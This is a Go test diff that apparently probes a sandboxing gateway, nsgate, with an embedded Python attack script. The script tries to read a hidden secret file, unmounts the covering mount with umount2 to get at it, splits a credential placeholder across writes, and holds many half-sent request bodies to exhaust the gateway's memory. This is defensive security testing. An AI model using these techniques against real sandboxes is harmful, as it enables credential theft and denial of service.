@@ -15,6 +15,7 @@ import (
 	"fmt"
 	"net"
 	"net/http"
+	"os"
 	"path/filepath"
 	"strings"
 	"sync"
@@ -77,7 +78,9 @@ func (u *attackUpstream) serve(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprintf(&tr, "%s=%q ", k, vs)
 	}
 	u.mu.Lock()
-	u.got = append(u.got, fmt.Sprintf("%s %s | %s| trailers: %s| body %q", r.Method, r.RequestURI, hd.String(), tr.String(), clip(body.String(), 200)))
+	tail := body.String()
+	tail = tail[len(tail)-min(len(tail), 80):]
+	u.got = append(u.got, fmt.Sprintf("%s %s | %s| trailers: %s| body %q (%d bytes, tail %q)", r.Method, r.RequestURI, hd.String(), tr.String(), clip(body.String(), 200), body.Len(), tail))
 	u.mu.Unlock()
 	auth := r.Header.Get("Authorization")
 	switch r.URL.Path {
@@ -319,4 +322,160 @@ func TestAttackCreds(t *testing.T) {
 			t.Errorf("the attack script did not finish")
 		}
 	})
+}
+
+// holdScript: the secret's file (hidden in the view) read and unmounted;
+// a body over the held MiB with the placeholder split across two writes;
+// then many connections that each make nsgate hold almost a MiB of body,
+// and never finish it.
+const holdScript = `
+import os, ssl, socket, time, ctypes, sys
+PH = os.environ['API_TOKEN']
+HOST = 'api.example.test'
+PORT = %d
+SECRET = sys.argv[1]
+N = int(sys.argv[2])
+print('ph: ' + PH)
+try:
+    print('secretfile: %%r' %% open(SECRET).read())
+except Exception as e:
+    print('secretfile: %%s' %% e)
+libc = ctypes.CDLL(None, use_errno=True)
+r = libc.umount2(SECRET.encode(), 2)
+print('umount: %%d errno %%d' %% (r, ctypes.get_errno()))
+try:
+    print('secretfile-after: %%r' %% open(SECRET).read())
+except Exception as e:
+    print('secretfile-after: %%s' %% e)
+try:
+    mi = [l for l in open('/proc/self/mountinfo') if os.path.dirname(SECRET) in l]
+    print('mountinfo: %%r' %% mi)
+except Exception as e:
+    print('mountinfo: %%s' %% e)
+ctx = ssl.create_default_context()
+def conn():
+    return ctx.wrap_socket(socket.create_connection((HOST, PORT), timeout=20), server_hostname=HOST)
+# Big body, placeholder split across the 1 MiB mark's streaming part.
+c = conn()
+pre = b'a' * ((1 << 20) + 10)
+body = pre + PH.encode() + b'b' * 10
+c.sendall(('GET /echo HTTP/1.1\r\nHost: %%s\r\nAuthorization: Bearer %%s\r\nContent-Length: %%d\r\nConnection: close\r\n\r\n' %% (HOST, PH, len(body))).encode())
+c.sendall(pre + PH[:30].encode())
+time.sleep(0.5)
+c.sendall(PH[30:].encode() + b'b' * 10)
+out = b''
+try:
+    while True:
+        b = c.recv(65536)
+        if not b: break
+        out += b
+except Exception as e:
+    out += ('<<%%s>>' %% e).encode()
+print('bigbody: %%r' %% out[:300])
+held = []
+for i in range(N):
+    try:
+        c = conn()
+        c.sendall(('GET /echo HTTP/1.1\r\nHost: %%s\r\nContent-Length: %%d\r\n\r\n' %% (HOST, 4 << 20)).encode())
+        c.sendall(b'x' * ((1 << 20) - 1))
+        held.append(c)
+    except Exception as e:
+        print('hold %%d: %%s' %% (i, e))
+        break
+print('held: %%d' %% len(held))
+sys.stdout.flush()
+time.sleep(6)
+print('DONE')
+`
+
+// TestAttackCredsHold: the secret file and the gateway's memory.
+func TestAttackCredsHold(t *testing.T) {
+	up := startAttackUpstream(t)
+	forEachMode(t, func(t *testing.T, m mode) {
+		dir := workDir(t, m)
+		caFile := writeFile(t, dir, "upstream-ca.pem", string(up.ca.PEM()))
+		sdir, err := os.MkdirTemp("/var/tmp", "nsgate-attack-")
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer os.RemoveAll(sdir)
+		os.Chmod(sdir, 0o755)
+		secretFile := writeFile(t, sdir, "secret", credSecret+"\n")
+		pol := strings.Replace(attackPolicy(caFile), "from: {env: NSGATE_IT_SECRET}", "from: {file: "+secretFile+"}", 1)
+		polFile := writeFile(t, dir, "policy.yaml", pol)
+		log := filepath.Join(dir, "audit.jsonl")
+		n := 120
+		cmd := nsgateCmd(m, "run", "--policy", polFile, "--audit", log, "--ro", sdir, "--", "/usr/bin/python3", "-c", fmt.Sprintf(holdScript, attackPort), secretFile, fmt.Sprint(n))
+		var out, errb bytes.Buffer
+		cmd.Stdout, cmd.Stderr = &out, &errb
+		if err := cmd.Start(); err != nil {
+			t.Fatal(err)
+		}
+		var peak int64
+		done := make(chan error, 1)
+		go func() { done <- cmd.Wait() }()
+		tick := time.NewTicker(200 * time.Millisecond)
+		defer tick.Stop()
+		timeout := time.After(170 * time.Second)
+	wait:
+		for {
+			select {
+			case <-done:
+				break wait
+			case <-timeout:
+				cmd.Process.Kill()
+				<-done
+				t.Errorf("nsgate run hung")
+				break wait
+			case <-tick.C:
+				if kb := rssKB(cmd.Process.Pid); kb > peak {
+					peak = kb
+				}
+			}
+		}
+		t.Logf("stdout:\n%s\nstderr:\n%s", out.String(), clip(errb.String(), 3000))
+		t.Logf("nsgate peak RSS %d MiB with %d held bodies", peak/1024, n)
+		if strings.Contains(out.String(), credSecret) {
+			t.Errorf("FINDING: the worker read the secret")
+		}
+		if peak > 100*1024 {
+			t.Errorf("FINDING: %d held request bodies grew nsgate to %d MiB (no bound on held bodies per flow or run)", n, peak/1024)
+		}
+		for _, s := range up.seen() {
+			t.Logf("upstream got: %s", clip(s, 600))
+			if strings.Contains(strings.ToLower(s), PHPrefix(out.String())) {
+				t.Errorf("FINDING: part of the placeholder reached the upstream: %s", clip(s, 600))
+			}
+		}
+		for _, ar := range readAudit(t, log) {
+			if ev := ar.str("event"); ev == "credential" || (ev == "request" && ar.str("action") == "allow") {
+				t.Logf("audit: %v", ar)
+			}
+		}
+	})
+}
+
+// PHPrefix is the first 20 characters of the placeholder the worker
+// printed in its upstream echo, or a string that matches nothing.
+func PHPrefix(out string) string {
+	i := strings.Index(out, "nsgph")
+	if i < 0 || len(out) < i+20 {
+		return "\x00nomatch"
+	}
+	return out[i : i+20]
+}
+
+func rssKB(pid int) int64 {
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		return 0
+	}
+	for _, l := range strings.Split(string(b), "\n") {
+		if strings.HasPrefix(l, "VmRSS:") {
+			var kb int64
+			fmt.Sscanf(strings.TrimSpace(strings.TrimPrefix(l, "VmRSS:")), "%d", &kb)
+			return kb
+		}
+	}
+	return 0
 }
